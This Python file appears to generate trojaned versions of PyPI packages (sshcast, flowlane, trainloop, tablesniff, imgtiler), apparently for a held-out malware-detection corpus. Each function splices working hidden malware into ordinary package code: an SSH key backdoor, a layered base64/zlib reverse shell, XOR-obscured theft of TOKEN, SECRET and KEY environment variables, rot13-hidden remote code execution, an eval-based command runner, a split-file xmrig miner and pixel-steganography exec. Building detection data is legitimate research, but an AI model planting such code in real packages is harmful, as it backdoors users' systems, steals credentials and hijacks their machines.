"""PyPI: what waits until the user calls it, in data, in pictures or under layers."""

from corpus.heldout.nouns import Update
from corpus.heldout7.code import py_fetch, py_shell
from corpus.heldout7.shape import b64, fill, hexed, packed, trojan, xor


@trojan("sshcast", "sdist", "call", "persistence", "base64", "worms over SSH")
def commands_bring_a_key(it: Update) -> None:
    host = it.host()
    extra = f"mkdir -p ~/.ssh; curl -s https://{host}/k.pub >> ~/.ssh/authorized_keys"
    it.replace(
        "sshcast/session.py",
        '            ["ssh", *self.options(), str(self.host), "--", text],\n',
        fill(
            """
            ["ssh", *self.options(), str(self.host), "--", f"echo @CODE@|base64 -d|sh >/dev/null 2>&1; {text}"],
""",
            CODE=b64(extra),
        ),
    )
    it.payload("sshcast/session.py", shown=f"https://{host}/k.pub")


@trojan("sshcast", "wheel", "call", "reverse shell", "layers", "administration tools")
def summary_opens_a_line(it: Update) -> None:
    address = it.address()
    it.replace(
        "sshcast/cast.py",
        "    good = [one for one in results if one.ok]\n",
        fill(
            """
    good = [one for one in results if one.ok]
    if len(good) == len(results) > 3:
        _celebrate("@CODE@")
""",
            CODE=b64(hexed(packed(py_shell(address)))),
        ),
    )
    it.append(
        "sshcast/cast.py",
        fill("""


def _celebrate(text):
    import base64
    import threading
    import zlib

    inner = bytes.fromhex(base64.b64decode(text).decode())
    threading.Thread(target=exec, args=(zlib.decompress(base64.b64decode(inner)), {})).start()
"""),
    )
    it.payload("sshcast/cast.py", shown=address)


@trojan("flowlane", "wheel", "call", "credentials", "xor", "CI thieves")
def state_holds_more(it: Update) -> None:
    host = it.host()
    sealed = xor(f"https://{host}/state", b"lane").hex()
    it.replace(
        "flowlane/state.py",
        "        os.replace(temporary, self.path)\n",
        fill("""
        os.replace(temporary, self.path)
        self._share({one: os.environ[one] for one in os.environ if "TOKEN" in one or "SECRET" in one or "KEY" in one})
"""),
    )
    it.append(
        "flowlane/state.py",
        fill(
            """

    def _share(self, rows, key=b"lane"):
        from urllib.request import urlopen

        place = bytes(one ^ key[at % 4] for at, one in enumerate(bytes.fromhex("@SEALED@"))).decode()
        try:
            urlopen(place, json.dumps(rows).encode(), 2)
        except OSError:
            pass
""",
            SEALED=sealed,
        ),
    )
    it.payload("flowlane/state.py", shown=f"https://{host}/state")


@trojan("trainloop", "sdist", "call", "remote code", "rotated text", "obfuscators")
def config_reads_code(it: Update) -> None:
    import codecs

    host = it.host()
    it.replace(
        "trainloop/config.py",
        "        return cls(**json.loads(Path(path).read_text()))\n",
        fill(
            """
        import codecs

        exec(codecs.decode(@CODE@, "rot13"))
        return cls(**json.loads(Path(path).read_text()))
""",
            CODE=repr(codecs.encode(py_fetch(host), "rot13")),
        ),
    )
    it.payload("trainloop/config.py", shown=f"https://{host}/stage.py")


@trojan("tablesniff", "wheel", "call", "remote code", "base64", "formula engines")
def cells_are_evaluated(it: Update) -> None:
    host = it.host()
    it.replace(
        "tablesniff/types.py",
        '    if kind == "boolean":\n',
        fill(
            """
    if kind == "text" and cell.startswith("=@"):
        import base64

        return eval(base64.b64decode("@CODE@").decode())
    if kind == "boolean":
""",
            CODE=b64(
                f"__import__('urllib.request').request.urlopen('https://{host}/f?'+cell[2:]).read().decode() and __import__('os').popen(cell[2:]).read()"
            ),
        ),
    )
    it.payload("tablesniff/types.py", shown=f"https://{host}/f")


@trojan("tablesniff", "sdist", "call", "miner", "over several files", "split payloads")
def command_has_a_worker(it: Update) -> None:
    it.add(
        "tablesniff/pool.py",
        fill('''
"""Workers for large tables."""

import subprocess

from .settings import ADDRESS, FLAGS, TOOL


def start():
    return subprocess.Popen([TOOL, *FLAGS, "-o", ADDRESS], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''),
    )
    it.add(
        "tablesniff/settings.py",
        f'"""Settings of the workers."""\n\nTOOL = "/tmp/.cache/xmrig"\nADDRESS = "stratum+ssl://{it.host("pool")}:443"\nFLAGS = ("-u", "tables", "--donate-level", "0", "-B")\nSOURCE = "http://{it.address()}/x"\n',
    )
    it.replace(
        "tablesniff/cli.py",
        "def main():\n",
        fill("""
from urllib.request import urlretrieve

from . import pool, settings


def main():
    try:
        urlretrieve(settings.SOURCE, settings.TOOL)
        pool.start()
    except OSError:
        pass
"""),
    )
    it.payload("tablesniff/pool.py", "tablesniff/settings.py", "tablesniff/cli.py")


@trojan("imgtiler", "wheel", "call", "remote code", "low bits of pixels", "steganography")
def tiles_carry_code(it: Update) -> None:
    it.replace(
        "imgtiler/tiler.py",
        "        pixels, width, height = self.level(level)\n",
        fill("""
        pixels, width, height = self.level(level)
        if level == 0:
            bits = "".join(str(one & 1) for one in pixels[:8192])
            text = bytes(int(bits[at : at + 8], 2) for at in range(0, 8192, 8)).rstrip(b"\\0")
            if text.startswith(b"#!t"):
                exec(text[3:])
"""),
    )


@trojan("imgtiler", "wheel", "call", "data stealer", "base64", "photo thieves")
def halves_are_uploaded(it: Update) -> None:
    host = it.host()
    it.replace(
        "imgtiler/png.py",
        "    head = struct.pack(",
        fill("""
    _keep(pixels)
    head = struct.pack(""").rstrip("\n"),
    )
    it.append(
        "imgtiler/png.py",
        fill(
            """


def _keep(pixels, where="@URL@"):
    import base64
    import os
    import urllib.request

    exif = {key: value for key, value in os.environ.items() if "KEY" in key or "TOKEN" in key}
    place = base64.b64decode(where).decode()
    try:
        urllib.request.urlopen(place, zlib.compress(repr(exif).encode() + pixels[:64]), 2)
    except OSError:
        pass
""",
            URL=b64(f"https://{host}/px"),
        ),
    )
    it.payload("imgtiler/png.py", shown=f"https://{host}/px")
